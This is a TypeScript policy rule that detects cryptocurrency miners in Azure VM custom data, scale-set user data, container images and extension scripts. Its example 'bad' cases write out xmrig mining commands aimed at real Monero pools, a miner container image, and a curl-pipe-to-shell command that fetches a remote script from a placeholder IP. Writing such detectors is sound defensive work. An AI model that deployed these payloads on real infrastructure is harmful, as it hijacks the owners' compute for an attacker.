import type { Violation } from "../catalogue/outcome";
import type { Payload } from "../compute/facts";
import { searchedIn, when } from "../compute/value";
import {
  type Indicator,
  isMiningImage,
  isNamedMining,
  isRunBy,
  type MiningSearch,
  searchForMining,
} from "../payloads/search";
import { literalParts } from "./hints";
import { optionsFrom } from "./options";
import { definePolicy } from "./policy";

/** Payloads that are code: that one cannot be read is news. The name of an image that comes later is none. */
const code: ReadonlySet<Payload["kind"]> = new Set(["script", "command"]);
/** Protected settings of an extension hold its script, but most of their values hold other things. */
const maybeCode: ReadonlySet<Payload["kind"]> = new Set([...code, "settings"]);

/** The names of indicators in a message, at most. */
const most = 5;

const nouns: { readonly [K in Indicator["kind"]]: string } = {
  pool: "mining pool",
  miner: "miner",
  wallet: "wallet",
  flag: "miner's flag",
  image: "miner's image",
  protocol: "mining protocol",
  configuration: "configuration",
};

export default definePolicy({
  id: "mining-payload",
  title: "Scripts, images and commands contain no miner",
  faultTitle: "A script, image or command contains a miner",
  severity: "critical",
  why: "Custom data, scripts and images bring the miner onto the machine, which then earns for the attacker from its first minute.",
  fix: "Remove the miner, and find out who put it there: treat the credential that wrote it as stolen.",
  control: "mining-workload",

  reads: "payloads",
  offersException: false,
  ...optionsFrom({ unknownValues: "unknownValues" }),
  level: () => "mandatory",
  examples: {
    good: [
      [
        "azure-native:compute:VirtualMachine",
        {
          hardwareProfile: { vmSize: "Standard_B2s" },
          osProfile: { customData: base64("#!/bin/sh\napt-get update && apt-get install -y nginx\n") },
        },
      ],
      ["azure-native:containerinstance:ContainerGroup", { containers: [{ name: "web", image: "nginx:1.27" }] }],
    ],
    bad: [
      [
        "azure-native:compute:VirtualMachine",
        {
          hardwareProfile: { vmSize: "Standard_B2s" },
          osProfile: { customData: base64("#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333\n") },
        },
      ],
      [
        "azure:compute/linuxVirtualMachineScaleSet:LinuxVirtualMachineScaleSet",
        { sku: "Standard_B2s", instances: 1, userData: base64(base64("xmrig --donate-level 1 --coin monero")) },
      ],
      [
        "azure-native:containerinstance/v20230501:ContainerGroup",
        { containers: [{ name: "a", image: "docker.io/xmrig/xmrig:latest" }] },
      ],
      [
        "azure-native:compute:VirtualMachineExtension",
        {
          vmName: "web",
          publisher: "Microsoft.Azure.Extensions",
          type: "CustomScript",
          settings: {
            commandToExecute: "curl -sL https://198.51.100.7/a.sh | sh -s -- -o stratum+ssl://xmr.nanopool.org:14433",
          },
        },
      ],
      [
        "azure-native:resources:Deployment",
        {
          properties: {
            mode: "Incremental",
            template: {
              resources: [
                {
                  type: "Microsoft.Compute/virtualMachines",
                  apiVersion: "2024-07-01",
                  name: "worker",
                  properties: {
                    hardwareProfile: { vmSize: "Standard_B2s" },
                    osProfile: { customData: "[base64('wget pool.minexmr.com; ./xmrig')]" },
                  },
                },
              ],
            },
          },
        },
      ],
    ],
  },

  *check({ what, kind, text, runsElsewhere, isFile }, { unknownValues }, reading) {
    const { path } = text;
    const verbs = isPlural(what) ? plural : singular;
    const fault = (message: string): Violation => ({ path, message: `the ${what} ${message}` });
    const judged = ({ indicators, cutOff, doubts = [], weakWords = [] }: MiningSearch): Violation | undefined => {
      const names = namesOf(indicators);
      if (names) return fault(`${verbs.names} ${names}`);
      const beside = [...(doubts.includes("image") ? [named] : []), namesOf(weakWords) ?? ""]
        .filter(Boolean)
        .join(" and ");
      if (doubts.includes("decoded"))
        return beside
          ? {
              ...fault(`${verbs.decodes} a text and ${verbs.runs} it, which cannot be followed, beside ${beside}`),
              fix: fixes.decoded,
            }
          : {
              ...fault(`${verbs.decodes} a text and ${verbs.runs} it, which cannot be followed`),
              level: "advisory",
              fix: fixes.decoded,
            };
      if (doubts.includes("image")) return { ...fault(`${verbs.runs} ${named}`), level: "advisory", fix: fixes.image };
      return cutOff ? { ...fault(`could not be decoded to the end: ${cutOff}`), fix: fixes.cutOff } : undefined;
    };
    const searched = searchedIn(text);
    const parts = namesOf([
      ...literalParts(text).flatMap(part => searchForMining(part, false, reading).indicators),
      ...(searched?.indicators ?? []),
    ]);
    yield when<string, Violation | undefined>(text, {
      known: written =>
        judged(searchForMining(written, isFile === true && !isRunBy(path), reading)) ??
        (kind !== "image"
          ? undefined
          : isMiningImage(written)
            ? fault(`${verbs.is} known to mine`)
            : isNamedMining(written)
              ? { ...fault(`${verbs.is} named after mining`), level: "advisory", fix: fixes.image }
              : undefined),
      unknown:
        code.has(kind) && !runsElsewhere
          ? { ...fault(`${verbs.is} decided later, and ${verbs.is} judged again at up`), level: unknownValues, fix: "" }
          : undefined,
      expression: parts
        ? fault(`${verbs.names} ${parts}`)
        : code.has(kind)
          ? {
              ...fault(`${verbs.is} in part an expression, in which a miner would not be seen`),
              level: "advisory",
              fix: fixes.expression,
            }
          : undefined,
      hidden: searched
        ? judged(searched)
        : maybeCode.has(kind)
          ? {
              ...fault(`${verbs.is} hidden, and a miner inside would not be seen`),
              level: "advisory",
              fix: fixes.hidden,
            }
          : undefined,
      absent: undefined,
    });
  },
});

/** What to do where no miner was found, and none can be ruled out. */
const fixes = {
  cutOff: "Write it with fewer encodings, so that it can be read to its end, or look at what it holds and except it.",
  decoded: "Write what is run as plain text, or in base64 or gzip in the text itself, which can be read.",
  image: "Look at what the image does, and use one that is built from sources of your own.",
  expression: "Write the text out, or build it from values that stand in the template.",
  hidden: "Hand secrets over from a vault when the machine starts, so that the script itself need not be hidden.",
} as const;

/** "the container's arguments are", "the start script is". */
const isPlural = (what: string): boolean => /[^s]s$/.test(what);
const plural = { is: "are", names: "name", decodes: "decode", runs: "run" } as const;
const singular = { is: "is", names: "names", decodes: "decodes", runs: "runs" } as const;

const named = "an image with GPUs whose name says mining";

/** The signs of mining by kind and name, each once. The text that contains them is never repeated. */
function namesOf(indicators: readonly Indicator[]): string | undefined {
  const names = [...new Set(indicators.map(signWords))];
  if (names.length === 0) return undefined;
  return names.length > most ? `${names.slice(0, most).join(", ")} and ${names.length - most} more` : names.join(", ");
}

/** "the miner xmrig", "the Monero wallet": a name that says what it is needs no noun. */
const signWords = ({ kind, name }: Indicator): string =>
  name.endsWith(` ${nouns[kind]}`) ? `the ${name}` : `the ${nouns[kind]} ${name}`;

function base64(text: string): string {
  return Buffer.from(text).toString("base64");
}
